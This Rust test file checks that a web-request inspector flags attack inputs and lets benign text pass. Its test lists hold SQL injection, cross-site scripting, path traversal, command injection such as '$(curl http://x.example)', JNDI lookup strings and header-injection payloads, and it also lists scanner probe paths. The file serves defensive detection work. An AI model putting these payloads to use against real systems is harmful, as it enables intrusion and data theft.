//! What is refused and what is not, by the rules that come with the inspector.

use std::sync::{Arc, LazyLock};

use inspection::{Class, Exempt, Inspector, Place, Suspicion};
use proptest::prelude::*;

const THRESHOLD: u32 = 5;

static STANDARD: LazyLock<Arc<Inspector>> = LazyLock::new(Inspector::standard);

fn in_query(value: &str) -> Option<Suspicion<'static>> {
    let mut tally = STANDARD.tally(Exempt::default());
    tally.pair(Place::Query, b"q", value.as_bytes(), false);
    tally.suspicion().filter(|found| found.score >= THRESHOLD)
}

#[track_caller]
fn attacks(class: Class, values: &[&str]) {
    let missed: Vec<_> =
        values.iter().filter(|value| in_query(value).is_none_or(|found| found.class != class)).collect();
    assert!(missed.is_empty(), "{missed:?}");
}

#[test]
fn sql_that_leaves_its_place_is_seen_in_its_disguises() {
    attacks(
        Class::Sql,
        &[
            "' or '1'='1",
            "' OR 1=1 --",
            "1 or 1=1",
            "1' UNION SELECT null, password FROM users --",
            "1 union/**/select 1,2,3",
            "1%27%20or%201=1",
            "1%2527%2520or%25201=1",
            "1; DROP TABLE users",
            "1 and sleep(5)",
            "1'; waitfor delay '0:0:5' --",
            "1 /*!50000union*/ /*!50000select*/ 1,2",
            "') or ('x'='x",
            "1 and extractvalue(1, concat(0x7e, version()))",
        ],
    );
}

#[test]
fn scripts_are_seen_in_their_disguises() {
    attacks(
        Class::Script,
        &[
            "<script>alert(1)</script>",
            "%3Cscript%3Ealert(1)%3C/script%3E",
            "<img src=x onerror=alert(1)>",
            "<svg/onload=alert(1)>",
            "&lt;script&gt;alert(1)",
            "javascript:alert(1)",
            "java&Tab;script:alert(1)",
            "<iframe src=//x.example>",
            "\\u003cscript>alert(1)",
        ],
    );
}

#[test]
fn the_other_classes_are_seen() {
    attacks(
        Class::Traversal,
        &[
            "../../etc/passwd",
            "..%2f..%2fboot",
            "%252e%252e%252f%252e%252e%252fx",
            "..%c0%af..%c0%afx",
            "..;/..;/x",
        ],
    );
    attacks(
        Class::Command,
        &["; whoami", "| cat /etc/hostname", "$(curl http://x.example)", "x;id", "a`id`"],
    );
    attacks(
        Class::Template,
        &["{{7*7}}", "${7*7}", "${jndi:ldap://x.example/a}", "${${lower:j}ndi:ldap://x/a}"],
    );
    attacks(Class::Header, &["a%0d%0aSet-Cookie: x=1", "a\r\nLocation: https://x.example"]);
}

#[test]
fn paths_that_scanners_probe_are_seen_and_plain_ones_are_not_even_looked_at() {
    let inspector = &*STANDARD;
    for path in ["/.env", "/.git/config", "/wp-login.php", "/WP-Login.php", "/a/../../b", "/a/%2e%2e/b"] {
        let found = inspector.begin(path, None, Exempt::default()).and_then(|tally| tally.suspicion());
        assert!(found.is_some_and(|found| found.score >= THRESHOLD), "{path}");
    }
    assert!(inspector.begin("/api/v1/session", Some("page=2&size=10"), Exempt::default()).is_none());
}

#[test]
fn benign_text_passes() {
    let refused: Vec<_> =
        include_str!("benign.txt").lines().filter_map(|line| Some((line, in_query(line)?.rule))).collect();
    assert!(refused.is_empty(), "{refused:?}");
}

#[test]
fn what_is_private_is_not_looked_at_and_what_is_exempt_does_not_count() {
    let names = ["password".to_owned()];
    let mut tally = STANDARD.tally(Exempt { names: &names, ..Exempt::default() });
    tally.pair(Place::Body, b"Password", b"' or 1=1 --", false);
    assert_eq!(tally.suspicion(), None);
    let classes = [Class::Sql].into_iter().collect();
    let mut tally = STANDARD.tally(Exempt { classes, ..Exempt::default() });
    tally.pair(Place::Body, b"q", b"1 or 1=1", false);
    assert_eq!(tally.suspicion(), None);
}

#[test]
fn rules_that_cannot_be_used_are_refused() {
    let rule = |name: &str, pattern: &str| {
        let text = format!("[[rules]]\nname = \"{name}\"\nclass = \"sql\"\nscore = 5\npattern = '{pattern}'");
        Inspector::new(Some(&text), true, inspection::Bounds::default()).map(|_| ())
    };
    assert_eq!(rule("own", "a+"), Ok(()));
    assert!(rule("own", "(").is_err() && rule("sql-union", "a").is_err());
}

proptest! {
    #[test]
    fn any_bytes_are_looked_at_without_a_panic(value in proptest::collection::vec(any::<u8>(), 0..400)) {
        let mut tally = STANDARD.tally(Exempt::default());
        for place in [Place::Path, Place::Query, Place::Field, Place::Agent, Place::Body] {
            tally.value(place, &value, true);
        }
        tally.cookies(&value);
        tally.pairs(Place::Body, &value);
    }

    #[test]
    fn random_words_pass(value in "([a-zA-Z]{1,9}[ ,.!?]{1,2}){0,12}") {
        prop_assert!(in_query(&value).is_none());
    }
}
